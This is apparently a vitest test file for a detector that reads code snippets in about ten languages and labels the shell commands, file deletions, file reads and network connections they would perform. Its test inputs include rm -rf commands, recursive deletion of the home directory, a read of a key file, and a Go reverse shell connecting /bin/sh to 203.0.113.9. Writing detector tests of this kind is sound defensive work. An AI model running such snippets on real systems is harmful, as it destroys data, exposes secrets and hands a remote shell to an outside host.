import { describe, expect, it } from 'vitest';
import { readSpelledOut } from '../../../../src/actions/code/spelled-out.ts';
import { shownEffects, shownRuns } from '../../../support/outcome.ts';
import { setting } from '../../../support/setting.ts';

const read = (text: string) => {
  const outcome = readSpelledOut(text, setting());
  return [...shownEffects(outcome), ...shownRuns(outcome)];
};

describe('code in languages without a reader of their own', () => {
  it.each([
    ['func main() { exec.Command("rm", "-rf", "notes").Run() }', ['argv rm -rf notes']],
    ['fn main() { Command::new("rm").arg("-rf").args(["notes", "old"]).spawn(); }', ['argv rm -rf notes old']],
    ['int main(void) { return system("rm -rf notes"); }', ['sh: rm -rf notes']],
    ['int main(void) { execl("/bin/rm", "rm", "-rf", "notes", NULL); }', ['argv /bin/rm -rf notes']],
    ['main = callCommand "rm -rf notes"', ['sh: rm -rf notes']],
    ['os:cmd("id").', ['sh: id']],
    ['run(`rm -rf notes`)', ['sh: rm -rf notes']],
    ['func main() { os.RemoveAll("/srv/notes") }', ['file.delete force,recursive /srv/notes']],
    ['fn main() { fs::read_to_string("/srv/key"); }', ['file.read /srv/key']],
    [
      'c, _ := net.Dial("tcp", "203.0.113.9:44"); d := exec.Command("/bin/sh"); d.Stdin = c; d.Stdout = c',
      ['net.request raw-socket,reverse-shell 203.0.113.9', 'argv /bin/sh'],
    ],
    ['c, _ := net.Dial("tcp", "203.0.113.9:44"); fmt.Fprintln(c, "hello")', []],
    ['rm(homedir(), recursive=true)', ['file.delete force,recursive /home/ada']],
    ['rm("notes.txt")', []],
    ['new File(System.getProperty("user.home")).deleteDir()', ['file.delete force,recursive /home/ada']],
    ['try FileManager.default.removeItem(atPath: NSHomeDirectory())', ['file.delete force,recursive /home/ada']],
    ['File.rm_rf!(System.user_home!())', ['file.delete force,recursive /home/ada']],
    ['Sys.command "rm -rf notes"', ['sh: rm -rf notes']],
    ['Runtime.getRuntime().exec("rm -rf notes")', ['sh: rm -rf notes']],
    ['// a system is no call\nfunc main() { fmt.Println("rm -rf notes") }', []],
  ])('%s: %j', (text, expected) => expect(read(text)).toEqual(expected));
});
